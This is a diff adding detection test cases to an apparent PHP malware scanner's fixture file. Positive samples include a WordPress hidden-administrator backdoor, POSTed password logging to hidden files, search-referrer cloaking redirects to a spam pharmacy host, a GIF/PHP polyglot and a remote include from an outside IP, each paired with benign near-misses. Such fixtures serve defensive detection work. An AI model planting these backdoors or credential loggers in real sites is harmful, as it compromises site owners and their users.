@@ -181,6 +181,42 @@ REMOTE_TO_PHP_NEAR = (
 REMOTE_INCLUDE = b"<?php\ninclude 'http://203.0.113.7/x.txt';\n"
 REMOTE_INCLUDE_NEAR = b"<?php\ninclude __DIR__ . '/http-client.php';\n// see https://example.org/doc\n"
 
+WP_HIDE = (
+    b"<?php\nadd_action('pre_user_query', function ($q) {\n  global $wpdb;\n"
+    b"  $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'sup0rt'\","
+    b" $q->query_where);\n});\n"
+)
+WP_CREATE = (
+    b"<?php\nif (isset($_GET['mkadm'])) {\n  $id = wp_create_user('sup0rt', 'pw', 'a@example.org');\n"
+    b"  $u = new WP_User($id);\n  $u->set_role('administrator');\n}\n"
+)
+WP_NEAR = (
+    b"<?php\n// installer: first account\n$id = wp_create_user($name, $pass, $mail);\n"
+    b"$u = new WP_User($id);\n$u->set_role('administrator');\n"
+    b"add_action('pre_user_query', 'my_sort_users');\n"
+)
+
+PW_LOG = b"<?php\nfile_put_contents('/tmp/.l', $_POST['log'] . ':' . $_POST['pwd'] . \"\\n\", FILE_APPEND);\n"
+PW_LOG_FOPEN = b"<?php\n$f = fopen('.cache', 'a');\nfwrite($f, $_POST['user'] . '|' . $_POST['password']);\n"
+PW_LOG_NEAR = (
+    b"<?php\n$f = fopen('config.php', 'w');\n"
+    b"fwrite($f, \"<?php define('DB_PASSWORD', '\" . addslashes($_POST['dbpass']) . \"');\");\n"
+)
+
+REF_REDIRECT = (
+    b"<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\n"
+    b"if (preg_match('/googlebot|bingbot/i', $ua)) { include 'keywords.html'; exit; }\n"
+    b"if (stripos($_SERVER['HTTP_REFERER'], 'google') !== false) {\n"
+    b"  header('Location: https://pills.example.net/buy'); exit;\n}\n"
+)
+REF_REDIRECT_NEAR = (
+    b"<?php\nif (stripos($_SERVER['HTTP_REFERER'], 'google') !== false) { $src = 'search'; }\n"
+    b"header('Location: https://www.example.org/welcome');\n"
+)
+
+GIF_SHORT_PHPINFO = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;<?phpinfo()?>"
+GIF_NEAR = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;comment: see phpinfo docs"
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_DIRECT, True),
     ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_VIA_FUNC, True),
@@ -225,4 +261,14 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_NEAR, False),
     ("SPAMGEAR_TOOLKIT_RemoteInclude", REMOTE_INCLUDE, True),
     ("SPAMGEAR_TOOLKIT_RemoteInclude", REMOTE_INCLUDE_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_WpHiddenAdmin", WP_HIDE, True),
+    ("SPAMGEAR_TOOLKIT_WpHiddenAdmin", WP_CREATE, True),
+    ("SPAMGEAR_TOOLKIT_WpHiddenAdmin", WP_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_PostedPasswordLogged", PW_LOG, True),
+    ("SPAMGEAR_TOOLKIT_PostedPasswordLogged", PW_LOG_FOPEN, True),
+    ("SPAMGEAR_TOOLKIT_PostedPasswordLogged", PW_LOG_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_SearchRefererRedirect", REF_REDIRECT, True),
+    ("SPAMGEAR_TOOLKIT_SearchRefererRedirect", REF_REDIRECT_NEAR, False),
+    ("SPAMGEAR_POLYGLOT_ImageWithPhp", GIF_SHORT_PHPINFO, True),
+    ("SPAMGEAR_POLYGLOT_ImageWithPhp", GIF_NEAR, False),
 ]
